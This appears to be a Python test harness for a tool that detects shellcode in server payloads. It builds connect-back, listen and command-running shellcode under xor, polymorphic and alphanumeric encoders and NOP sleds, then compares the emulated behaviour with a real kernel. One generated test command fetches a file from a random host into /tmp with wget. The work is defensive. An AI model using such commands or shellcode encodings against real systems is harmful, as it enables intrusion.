#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Machine code of our own is found in payloads and does in emulated servers what it does on a real kernel.

usage: shellcode.py SHELLCODES SOURCE [ROUNDS]
Each round builds every design for addresses and commands by chance: plain, encoded, and within what carries it. Plain and
encoded code also runs on the real kernel (oracle.py), and the first thing it does there must be what it does here.
"""
import concurrent.futures, gzip, io, os, random, subprocess, sys, tempfile, zipfile, zlib

sys.path.insert(0, os.path.dirname(os.path.realpath(__file__)))
import designs, encoders, oracle

TOOL, SOURCE = os.path.realpath(sys.argv[1]), os.path.realpath(sys.argv[2])
ROUNDS = int(sys.argv[3]) if len(sys.argv) > 3 else 1
results = []


def check(holds, what, shown=''):
    results.append(bool(holds))
    if not holds:
        print(f'not ok - {what} {shown}')


def ask(profile, codes):
    """[(language, path)] -> {path: (language, [event], [trace])}, or of the search alone {path: language}"""
    lines = ''.join(f'{language} {path}\n' for language, path in codes)
    done = subprocess.run([TOOL, profile], input=lines.encode(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=600)
    if done.returncode != 0:
        print(done.stderr.decode()[-400:])
        sys.exit(3)
    answers, now = {}, None
    for line in done.stdout.decode().splitlines():
        words = line.split(' ')
        if words[0] == 'found':
            answers[words[1]] = words[2]
        elif words[0] == 'code':
            now = answers[words[1]] = (words[2], [], [])
        elif words[0] == 'event':
            now[1].append(event(words[1:]))
        else:
            now[2].append(words[1:])
    return answers


def event(words):
    kind, address, port, protocol, path, argv, name = words
    text = lambda h: b'' if h == '-' else bytes.fromhex(h)
    if kind == 'connect' or (kind == 'send' and protocol == '17'):
        return 'connect', address, int(port)
    if kind == 'listen':
        return 'listen', int(port)
    if kind == 'exec':
        return 'exec', text(path).decode('latin1'), text(argv).decode('latin1').split('\0')[:-1]
    return kind, text(name).decode('latin1') or text(path).decode('latin1'), int(port)


def first(events):
    """The first thing that counts, without the path by which a program was named."""
    for e in events:
        if e[0] in ('connect', 'listen'):
            return e
        if e[0] == 'exec':
            return 'exec', e[2][1:]
    return None


def same(one, other):
    if one == other:
        return True
    # a port that the kernel gives out is another each time
    return one is not None and other is not None and one[0] == other[0] == 'listen' and \
        (other[1] == 0 or (one[1] >= 32768 and other[1] >= 32768))


def wanted(kind, address, port, command):
    return {'connect': ('connect', address, port), 'listen': ('listen', port), 'run': ('exec', ['-c', command]),
            'listen any': ('listen', 0)}[kind.split(',')[0]]


class Work:
    def __init__(self, folder):
        self.folder, self.codes, self.expect, self.raw = folder, [], {}, {}

    def add(self, what, language, code, expected, runs_alone):
        path = os.path.join(self.folder, f'{len(self.codes)}.bin')
        with open(path, 'wb') as file:
            file.write(code)
        self.codes.append((language, path))
        self.expect[path] = (f'{what} ({language})', expected)
        if runs_alone:
            self.raw[path] = (language, code)


def build(work, rng, absent, served):
    for design in designs.all_designs():
        name, language, kind, _ = design
        if language in absent or language not in served:
            continue
        address = '.'.join(str(rng.randrange(1, 255)) for _ in range(4))
        port = rng.randrange(1025, 65536)
        command = f'wget http://{address}:{port}/{rng.getrandbits(24):x} -O /tmp/x'
        code = designs.build(design, address, port, command)
        expected = wanted(kind, address, port, command)
        work.add(name, language, code, expected, 'no oracle' not in kind)
        for label, carrier in encoders.CARRIERS.items():
            if language in ('x86', 'x86-64') or label not in ('sled', 'nops', 'overflow'):
                work.add(f'{name} in {label}', language, carrier(code, rng), expected, False)
        if language not in ('x86', 'x86-64'):
            continue
        for encode in (encoders.xor, encoders.feedback, encoders.polymorphic):
            encoded = encode(code, language, rng)
            work.add(f'{name} by {encode.__name__}', language, encoded, expected, True)
            label, carrier = rng.choice(list(encoders.CARRIERS.items()))
            work.add(f'{name} by {encode.__name__} in {label}', language, carrier(encoded, rng), expected, False)
        if language == 'x86':
            work.add(f'{name} by letters', language, encoders.alphanumeric(code, rng), expected, False)


def compare(work, answers):
    for path, (what, expected) in work.expect.items():
        language, events, traces = answers[path]
        check(same(first(events), expected), what, f'did {first(events)}, should {expected}')
        # a port that the kernel gives out is no trace
        if expected[0] in ('connect', 'listen') and expected[-1] != 0 and same(first(events), expected):
            check(any(t[0] == expected[0] for t in traces), f'{what}: leaves a trace')


def compare_natively(work, answers):
    why = {language: oracle.cannot(language) for language, _ in work.raw.values()}
    for language, reason in sorted(why.items()):
        if reason:
            print(f'ok - {language} on a real kernel # SKIP {reason}')
    raw = [(path, language, code) for path, (language, code) in work.raw.items() if not why[language]]
    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        theirs = pool.map(lambda r: oracle.run(r[1], r[2]), raw)
        for (path, language, _), events in zip(raw, theirs):
            what = work.expect[path][0]
            if first(events) is None:
                print(f'ok - {what} # SKIP it does nothing on this kernel or in this qemu')
                continue
            check(same(first(answers[path][1]), first(events)), f'{what} as on the kernel',
                  f'{first(answers[path][1])}, there {first(events)}')


def benign(rng):
    """(what, bytes): things that servers get every day, and that are no code."""
    roots = ('/usr/share/common-licenses', '/usr/share/doc', '/usr/share/perl', '/usr/share/python3', '/usr/share/zoneinfo')
    files = [os.path.join(folder, n) for root in roots for folder, _, names in os.walk(root) for n in names]
    rng.shuffle(files)
    for path in files[:120]:
        try:
            with open(path, 'rb') as file:
                yield path, file.read(65536)
        except OSError:
            continue
    for n in range(30):
        yield f'chance {n}', rng.randbytes(rng.choice([200, 2000, 30000, 65536]))
        words = ' '.join(rng.choice(['order', 'the', 'admin', 'select', 'id=7', '<td>', 'price', '&amp;']) for _ in range(4000))
        yield f'deflated {n}', zlib.compress(words.encode(), rng.randrange(1, 10))
        yield f'gzip {n}', gzip.compress(rng.randbytes(9000) + words.encode())
        rows = b''.join(b'\0' + bytes(rng.randrange(256) for _ in range(90)) for _ in range(60))
        yield f'picture {n}', b'\x89PNG\r\n\x1a\n' + zlib.compress(rows, 0) + zlib.compress(rows)
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, 'w', zipfile.ZIP_DEFLATED) as archive:
            archive.writestr('a.txt', words)
            archive.writestr('b.bin', rng.randbytes(3000))
        yield f'archive {n}', packed.getvalue()


def no_code(profile, folder, rng):
    codes, names = [], {}
    for what, data in benign(rng):
        path = os.path.join(folder, f'benign{len(codes)}')
        with open(path, 'wb') as file:
            file.write(data)
        codes.append(('auto', path))
        names[path] = what
    answers = ask('-', codes)
    # bytes may call the system by chance, but then they do nothing
    chance = [('auto', path) for path, language in answers.items() if language != 'none']
    ran = ask(profile, chance) if chance else {}
    for path in answers:
        language = ran[path][0] if path in ran else 'none'
        check(language in ('none', 'shell'), f'{names[path]} is no code', f'but {language}')
    print(f'# {len(codes)} harmless inputs, {len(chance)} looked at twice')


def main():
    absent = designs.missing()
    for language, reason in sorted(absent.items()):
        print(f'ok - {language} # SKIP {reason}')
    profile = os.path.join(SOURCE, 'emu/profiles/debian')
    served = list(oracle.MACHINES)
    for number in range(ROUNDS):
        rng = random.Random(20240 + number)
        with tempfile.TemporaryDirectory() as folder:
            work = Work(folder)
            build(work, rng, absent, served)
            answers = ask(profile, work.codes)
            print(f'# {len(work.codes)} codes')
            compare(work, answers)
            compare_natively(work, answers)
            no_code(profile, folder, rng)
    print(f'# {sum(results)} of {len(results)}')
    if not results:
        return 77
    return 0 if all(results) else 1


sys.exit(main())
